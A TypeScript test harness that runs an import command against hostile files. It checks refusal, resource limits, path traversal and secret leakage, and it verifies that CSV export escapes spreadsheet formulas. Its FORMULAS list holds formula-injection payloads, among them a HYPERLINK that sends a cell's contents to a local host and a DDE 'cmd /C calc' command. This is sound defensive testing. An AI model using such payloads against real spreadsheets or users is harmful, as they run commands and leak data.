import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import pg from 'pg'
import { csvText } from '../web/kit/csv.ts'
import { type Base, emptyBase } from './empty-base.ts'
import type { Figure } from './figure.ts'
import { type HostileCase, hostileCases, READ_NAME, SECRET } from './hostile-cases.ts'
import { lastLine, type Measured, measured, runTandem } from './measured.ts'
import { readNaively } from './naive-reader.ts'

const CPU_SECONDS_MAX = 2
const MEGABYTES_MAX = 256
const DISTRIBUTOR = 'HOSTILE'

/**
 * Files made to harm, each by the import command in a process of its own: refused with file and
 * line, in time, in bounded memory, and nothing of them stays. Texts of spreadsheets' formulas are
 * exported as text. The controls: a reader that reads everything whole, an export as it is.
 */
export async function run(): Promise<Figure> {
  const base = await emptyBase()
  const folder = mkdtempSync(join(tmpdir(), 'tandem-hostile-'))
  try {
    const secret = join(folder, 'secret.txt')
    writeFileSync(secret, SECRET)
    const cases = hostileCases(pathToFileURL(secret).href)
    const ground = { base, folder, before: await firstImport(base, folder) }
    const failed: Record<string, string> = {}
    const worst: Record<string, { most: number; of: string }> = {}
    const naive: Record<string, string[]> = {}
    for (const [no, hostile] of cases.entries()) {
      const path = placed(join(folder, String(no)), hostile)
      const ran = await runTandem(wordsFor(hostile, path, folder), base.env)
      for (const figure of ['cpuSeconds', 'seconds', 'peakMb'] as const) {
        const most = ran[figure] ?? 0
        if (most > (worst[figure]?.most ?? 0)) worst[figure] = { most, of: hostile.name }
      }
      const wrong = await wrongIn(hostile, ran, ground)
      if (wrong.length > 0) failed[hostile.name] = wrong.join(', ')
      const harm = await naiveHarm(path, join(folder, `${no}`, 'unpacked', 'here'))
      for (const how of harm) naive[how] = [...(naive[how] ?? []), hostile.name]
      rmSync(join(folder, String(no)), { recursive: true })
    }
    const formulas = formulasIn(csvText(FORMULAS.map((text) => [text, 'x'])))
    const plain = formulasIn(FORMULAS.map((text) => `${text};x\r\n`).join(''))
    const value = Object.keys(failed).length + formulas
    return {
      name: 'hostile-files',
      value,
      unit: `of ${cases.length} files and ${FORMULAS.length} formulas not refused, not escaped or too dear`,
      bar: `0; each ≤ ${CPU_SECONDS_MAX} s of the processor, start included, ≤ ${MEGABYTES_MAX} MB`,
      ok: value === 0 && Object.keys(naive).length > 0 && plain > 0,
      control: {
        ...{ worst, failed },
        naiveReader: naive,
        formulasExportedPlain: plain,
      },
      seed: null,
    }
  } finally {
    await base.stop()
    rmSync(folder, { recursive: true, force: true })
  }
}

// Left where it may not be unpacked to: above its own folder is only ours.
function placed(folder: string, { file, bytes }: HostileCase): string {
  mkdirSync(folder)
  const path = join(folder, file)
  writeFileSync(path, bytes)
  return path
}

const mappingAt = (folder: string) => join(folder, 'mapping.json')

function wordsFor({ by }: HostileCase, path: string, folder: string): string[] {
  const of = ['--distributor', DISTRIBUTOR, '--json']
  if (by === 'commerceml') return ['import', 'commerceml', path, ...of]
  return ['import', 'table', path, '--mapping', mappingAt(folder), ...of]
}

const FINE =
  '<КоммерческаяИнформация ВерсияСхемы="2.08"><Каталог СодержитТолькоИзменения="true"><Ид>c</Ид>' +
  '<Товары><Товар><Ид>fine</Ид><Наименование>Чай</Наименование></Товар></Товары></Каталог>' +
  '</КоммерческаяИнформация>'

async function firstImport(base: Base, folder: string): Promise<string> {
  const path = join(folder, 'fine.xml')
  writeFileSync(path, FINE)
  const fields = { code: { column: 'Код' }, name: { column: 'Назва' } }
  writeFileSync(mappingAt(folder), JSON.stringify({ version: 1, kind: 'products', fields }))
  const words = ['import', 'commerceml', path, '--distributor', DISTRIBUTOR, '--create', '--json']
  const ran = await runTandem(words, base.env)
  if (ran.exitCode !== 0) throw new Error(`a good file was refused: ${ran.output}`)
  return namesIn(base)
}

const namesIn = async ({ ownerUrl }: Base): Promise<string> => {
  const owner = new pg.Client({ connectionString: ownerUrl })
  await owner.connect()
  const { rows } = await owner.query<{ names: string }>(
    `select coalesce(string_agg(name, '|' order by name), '') as names from catalogue.product`,
  )
  await owner.end()
  return rows[0]?.names ?? ''
}

type Ground = { base: Base; folder: string; before: string }
type Answer = {
  ok?: boolean
  code?: string
  file?: string
  line?: number
  message?: string
  refusal?: { code: string; file: string; line: number }
}

/** What is wrong about how a file was answered. */
async function wrongIn(hostile: HostileCase, ran: Measured, ground: Ground): Promise<string[]> {
  const answer = lastLine(ran) as Answer
  const wrong = hostile.refusal === null ? [] : refusalWrong(hostile, answer)
  const names = await namesIn(ground.base)
  if (hostile.refusal !== null && names !== ground.before) wrong.push('something of it stayed')
  if (hostile.refusal === null && !names.includes(READ_NAME)) wrong.push(`read as ${names}`)
  ground.before = names
  if (`${ran.output}${names}`.includes(SECRET)) wrong.push('the secret was told')
  if ((ran.cpuSeconds ?? Number.POSITIVE_INFINITY) > CPU_SECONDS_MAX)
    wrong.push(`${ran.cpuSeconds ?? 'no'} s`)
  if ((ran.peakMb ?? Number.POSITIVE_INFINITY) > MEGABYTES_MAX)
    wrong.push(`${ran.peakMb ?? 'no'} MB`)
  return wrong
}

function refusalWrong({ refusal, line, file }: HostileCase, answer: Answer): string[] {
  const told = answer.refusal ?? answer
  const code = /^Refused: .*?:\d+: (\w+)/.exec(answer.message ?? '')?.[1]
  const wrong: string[] = []
  if (answer.ok !== false || code !== refusal) wrong.push(`${code ?? 'taken'} for ${refusal}`)
  if (!told.line || (line && told.line !== line))
    wrong.push(`line ${told.line} for ${line ?? '≥ 1'}`)
  if (!told.file?.startsWith(file)) wrong.push(`named ${told.file}`)
  return wrong
}

const NAIVE_SECONDS_MAX = 10
const NAIVE_HEAP_MB = 512

/** What a naive reader of the same file does to the machine that reads it. */
async function naiveHarm(path: string, folder: string): Promise<string[]> {
  mkdirSync(folder, { recursive: true })
  const script = `import { naively } from ${JSON.stringify(import.meta.url)}
    process.stdout.write(naively(process.argv[1], process.argv[2]))`
  const words = [`--max-old-space-size=${NAIVE_HEAP_MB}`, '--input-type=module', '-e', script]
  const ran = await measured([...words, path, folder], { secondsMax: NAIVE_SECONDS_MAX })
  const harm: string[] = []
  if (ran.output.includes(SECRET)) harm.push('told the secret')
  if ((ran.peakMb ?? 0) > MEGABYTES_MAX) harm.push('took too much memory')
  if ((ran.cpuSeconds ?? NAIVE_SECONDS_MAX) > CPU_SECONDS_MAX)
    harm.push('never ended or took too long')
  if (existsSync(join(folder, '..', '..', 'evil.xml'))) harm.push('wrote outside its folder')
  return harm
}

/** For the process of the control. */
export const naively = (path: string, folder: string): string =>
  readNaively(path, folder).slice(0, 10_000)

const FORMULAS = [
  '=HYPERLINK("http://127.0.0.1:1?"&A1,"ціна")',
  `=cmd|' /C calc'!A0`,
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
  'чай";=1+1;"',
]

// As a spreadsheet reads it: by semicolons, quotes taken off.
function formulasIn(csv: string): number {
  const cells = [...csv.matchAll(/(?:"((?:[^"]|"")*)"|([^;\r\n]*))(?:;|\r\n)/g)]
  const texts = cells.map(([, quoted, bare]) => (quoted ?? bare ?? '').replaceAll('""', '"'))
  return texts.filter((text) => /^[=+\-@\t\r\n＝＋－＠]/.test(text)).length
}
